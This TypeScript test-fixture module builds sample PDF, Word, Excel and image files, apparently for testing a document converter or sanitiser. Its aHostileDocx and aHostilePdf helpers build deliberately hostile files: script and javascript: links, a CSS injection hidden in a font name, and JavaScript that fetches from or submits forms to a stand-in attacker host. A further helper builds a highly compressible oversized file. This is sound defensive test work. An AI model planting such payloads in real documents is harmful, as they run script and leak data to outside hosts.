import { CFB, utils, write } from '@e965/xlsx'
import { strToU8, zipSync } from 'fflate'
import { Document, Packer, Paragraph, TextRun } from 'docx'
import { PNG as Picture } from 'pngjs'

/** A PDF with a line of text on each page. */
export function aPdf(...lines: readonly string[]): Buffer {
  const kids = lines.map((_, at) => `${4 + 2 * at} 0 R`).join(' ')
  const objects = [
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Kids[${kids}]/Count ${lines.length}>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...lines.flatMap((line, at) => {
      const drawing = `BT /F 24 Tf 72 720 Td (${line.replace(/[()\\]/g, String.raw`\$&`)}) Tj ET`
      return [
        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 3 0 R>>>>/Contents ${5 + 2 * at} 0 R>>`,
        `<</Length ${drawing.length}>>stream\n${drawing}\nendstream`,
      ]
    }),
  ]
  return pdfOf(objects)
}

/** A PDF of these objects; the first is the catalogue. */
export function pdfOf(objects: readonly string[], more = ''): Buffer {
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj${object}endobj\n`
    return offset
  })
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const trailer = `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer<</Size ${size}/Root 1 0 R${more}>>\nstartxref\n${text.length}\n%%EOF\n`
  return Buffer.from(text + trailer, 'latin1')
}

export function aLockedPdf(): Buffer {
  const [owner, user] = ['a', 'b'].map((digit) => digit.repeat(64))
  const id = 'c'.repeat(32)
  return pdfOf(
    ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>'],
    `/ID[<${id}><${id}>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${owner}>/U<${user}>>>`,
  )
}

/** A Word document with a paragraph per line, the first one in bold. */
export const aDocx = (...lines: readonly string[]): Promise<Buffer> =>
  Packer.toBuffer(
    new Document({
      sections: [
        {
          children: lines.map(
            (line, at) => new Paragraph({ children: [new TextRun({ text: line, bold: at === 0 })] }),
          ),
        },
      ],
    }),
  )

const OFFICE = 'http://schemas.openxmlformats.org'
const PACKAGE = `${OFFICE}/package/2006`
const RELATION = `${OFFICE}/officeDocument/2006/relationships`
const SHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
/** A row of at most 26 cells. */
const rowOf = (cells: readonly string[], at: number) => {
  const cellOf = (text: string, column: number) =>
    `<c r="${String.fromCharCode(65 + column)}${at + 1}" t="inlineStr"><is><t>${escaped(text)}</t></is></c>`
  return `<row r="${at + 1}">${cells.map(cellOf).join('')}</row>`
}

/** An Excel workbook of texts. */
export function anXlsx(
  sheets: Readonly<Record<string, readonly (readonly string[])[]>>,
): Uint8Array<ArrayBuffer> {
  const names = Object.keys(sheets)
  const part = (root: string, content: string) =>
    strToU8(`<?xml version="1.0" encoding="UTF-8"?><${root}>${content}</${root.split(' ')[0]!}>`)
  const entries: Record<string, Uint8Array> = {
    '[Content_Types].xml': part(
      `Types xmlns="${PACKAGE}/content-types"`,
      `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${SHEET_TYPE}.sheet.main+xml"/>${names.map((_, at) => `<Override PartName="/xl/worksheets/sheet${at + 1}.xml" ContentType="${SHEET_TYPE}.worksheet+xml"/>`).join('')}`,
    ),
    '_rels/.rels': part(
      `Relationships xmlns="${PACKAGE}/relationships"`,
      `<Relationship Id="rId1" Type="${RELATION}/officeDocument" Target="xl/workbook.xml"/>`,
    ),
    'xl/workbook.xml': part(
      `workbook xmlns="${OFFICE}/spreadsheetml/2006/main" xmlns:r="${RELATION}"`,
      `<sheets>${names.map((name, at) => `<sheet name="${escaped(name)}" sheetId="${at + 1}" r:id="rId${at + 1}"/>`).join('')}</sheets>`,
    ),
    'xl/_rels/workbook.xml.rels': part(
      `Relationships xmlns="${PACKAGE}/relationships"`,
      names
        .map(
          (_, at) =>
            `<Relationship Id="rId${at + 1}" Type="${RELATION}/worksheet" Target="worksheets/sheet${at + 1}.xml"/>`,
        )
        .join(''),
    ),
  }
  for (const [at, name] of names.entries())
    entries[`xl/worksheets/sheet${at + 1}.xml`] = part(
      `worksheet xmlns="${OFFICE}/spreadsheetml/2006/main"`,
      `<sheetData>${sheets[name]!.map(rowOf).join('')}</sheetData>`,
    )
  return zipSync(entries)
}

/** A workbook in the format of Excel before 2007, with a sheet of these cells. */
export function anXls(
  rows: readonly (readonly (string | number | boolean | Date)[])[],
): Uint8Array<ArrayBuffer> {
  const book = utils.book_new(
    utils.aoa_to_sheet(
      rows.map((row) => [...row]),
      { cellDates: false },
    ),
    'Duty',
  )
  return new Uint8Array(write(book, { type: 'array', bookType: 'biff8' }) as ArrayBuffer)
}

/** A workbook with one number in some formats, and a hidden sheet. */
export function aFormattedXlsx(value: number, formats: readonly string[]): Uint8Array<ArrayBuffer> {
  const cells = formats.map((z, n) => [`A${n + 1}`, { t: 'n', v: value, z }] as const)
  const sheet = { ...Object.fromEntries(cells), '!ref': `A1:A${formats.length}` }
  const book = {
    SheetNames: ['Duty', 'Draft'],
    Sheets: { Duty: sheet, Draft: sheet },
    Workbook: { Sheets: [{ Hidden: 0 as const }, { Hidden: 1 as const }] },
  }
  return new Uint8Array(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer)
}

/** A compound file as Office writes it around a document with a password. */
export function aProtectedFile(): Uint8Array<ArrayBuffer> {
  const { utils: files, write: writeFile } = CFB as {
    utils: { cfb_new(): object; cfb_add(file: object, path: string, content: Uint8Array): void }
    write: (file: object, options: { type: 'array' }) => Uint8Array
  }
  const file = files.cfb_new()
  files.cfb_add(file, '/EncryptionInfo', new Uint8Array(300))
  files.cfb_add(file, '/EncryptedPackage', new Uint8Array(5_000))
  return new Uint8Array(writeFile(file, { type: 'array' }))
}

const MAIN = `${OFFICE}/wordprocessingml/2006/main`

/** A Word document that tries to run scripts and to fetch from `evil`. */
export function aHostileDocx(evil: string): Uint8Array<ArrayBuffer> {
  const relation = (id: string, kind: string, target: string, isExternal = true) =>
    `<Relationship Id="${id}" Type="${RELATION}/${kind}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`
  const run = (text: string, properties = '') => `<w:r><w:rPr>${properties}</w:rPr><w:t>${text}</w:t></w:r>`
  const picture = (attribute: string) =>
    `<w:r><w:drawing><wp:inline xmlns:wp="${OFFICE}/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><a:graphic xmlns:a="${OFFICE}/drawingml/2006/main"><a:graphicData uri="${OFFICE}/drawingml/2006/picture"><pic:pic xmlns:pic="${OFFICE}/drawingml/2006/picture"><pic:blipFill><a:blip ${attribute}="rImage"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`
  const body = `<w:p>${run('Harmless words.', `<w:rFonts w:ascii="x&quot;;}body{background:url(${evil}/font)}"/>`)}</w:p>
    <w:p>${run('&lt;img src=x onerror=&quot;top.ran=1&quot;&gt;')}</w:p>
    <w:p><w:hyperlink r:id="rScript">${run('press me')}</w:hyperlink></w:p>
    <w:p>${picture('r:embed')}${picture('r:link')}</w:p>
    <w:altChunk r:id="rChunk"/>`
  return zipSync({
    '[Content_Types].xml': strToU8(
      `<?xml version="1.0"?><Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    ),
    '_rels/.rels': strToU8(
      `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${relation('r1', 'officeDocument', 'word/document.xml', false)}</Relationships>`,
    ),
    'word/document.xml': strToU8(
      `<?xml version="1.0"?><w:document xmlns:w="${MAIN}" xmlns:r="${RELATION}"><w:body>${body}</w:body></w:document>`,
    ),
    'word/_rels/document.xml.rels': strToU8(
      `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${relation('rScript', 'hyperlink', 'javascript:top.ran=1')}${relation('rImage', 'image', `${evil}/image.png`)}${relation('rChunk', 'aFChunk', 'chunk.html', false)}</Relationships>`,
    ),
    'word/chunk.html': strToU8(
      `<script>top.ran=1;fetch('${evil}/chunk')</script><img src="${evil}/chunk.png">`,
    ),
  })
}

/** A Word document with this many bytes of spaces, which compress to about a thousandth. */
export const aLongDocx = (bytes: number): Uint8Array<ArrayBuffer> =>
  zipSync(
    {
      '[Content_Types].xml': strToU8(
        `<?xml version="1.0"?><Types xmlns="${PACKAGE}/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
      ),
      'word/document.xml': new Uint8Array(bytes).fill(0x20),
    },
    { level: 1 },
  )

/** A PDF of one page that tries to run a script and to fetch from `evil` when opened. */
export function aHostilePdf(evil: string): Buffer {
  const script = `<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("${evil}/form"\\))>>`
  const link = `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${evil}/link)>>>>`
  const drawing = 'BT /F 24 Tf 72 720 Td (Harmless) Tj ET'
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R/OpenAction${script}>>`,
    '<</Type/Pages/Kids[4 0 R]/Count 1>>',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O${script}>>/Annots[${link}]/Resources<</Font<</F 3 0 R>>>>/Contents 5 0 R>>`,
    `<</Length ${drawing.length}>>stream\n${drawing}\nendstream`,
  ])
}

/** A picture in one colour. */
export function aPng(width: number, height: number): Buffer {
  const picture = new Picture({ width, height })
  picture.data.fill(0xa0)
  return Picture.sync.write(picture)
}

/** A TIFF of 8 by 6 pixels with old-style JPEG compression (`Compression` 6). */
export function anOldTiff(jpeg: Buffer): Buffer {
  const [short, long] = [3, 4]
  const entries = [
    [256, long, 8],
    [257, long, 6],
    [258, short, 8],
    [259, short, 6],
    [262, short, 6],
    [513, long, 0],
  ] as const
  const directory = Buffer.alloc(2 + entries.length * 12 + 4)
  const start = 8 + directory.length
  directory.writeUInt16LE(entries.length, 0)
  for (const [n, [tag, type, value]] of entries.entries()) {
    const at = 2 + n * 12
    directory.writeUInt16LE(tag, at)
    directory.writeUInt16LE(type, at + 2)
    directory.writeUInt32LE(1, at + 4)
    directory.writeUInt32LE(tag === 513 ? start : value, at + 8)
  }
  return Buffer.concat([Buffer.from('II*\0\b\0\0\0', 'latin1'), directory, jpeg])
}

/** A red HEIC image of 64 by 48 pixels. */
export const aHeic = (): Buffer =>
  Buffer.from(
    [
      'AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAa1tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAA',
      'AA5waXRtAAAAAAACAAAAEGlkYXQAAAAAAEAAMAAAADhpbG9jAQAAAERAAAIAAQAAAAAAAAHRAAEAAAAAAAAAGQACAAEAAAAAAAAA',
      'AQAAAAAAAAAIAAAAOGlpbmYAAAAAAAIAAAAVaW5mZQIAAAEAAQAAaHZjMQAAAAAVaW5mZQIAAAAAAgAAZ3JpZAAAAADYaXBycAAA',
      'ALZpcGNvAAAAdmh2Y0MBA3AAAAAAAAAAAAAe8AD8/fj4AAAPAyAAAQAYQAEMAf//A3AAAAMAkAAAAwAAAwAeugJAIQABACpCAQED',
      'cAAAAwCQAAADAAADAB6gIIEFlurkprm4EBAwIAAAAwAgAAADACEiAAEABkQBwXPAiQAAABRpc3BlAAAAAAAAAEAAAABAAAAAFGlz',
      'cGUAAAAAAAAAQAAAADAAAAAQcGl4aQAAAAADCAgIAAAAGmlwbWEAAAAAAAAAAgABAoECAAICA4QAAAAaaXJlZgAAAAAAAAAOZGlt',
      'ZwACAAEAAQAAACFtZGF0AAAAFSgBrwtg9eWDr//wrvftQIOW70/1Dg==',
    ].join(''),
    'base64',
  )
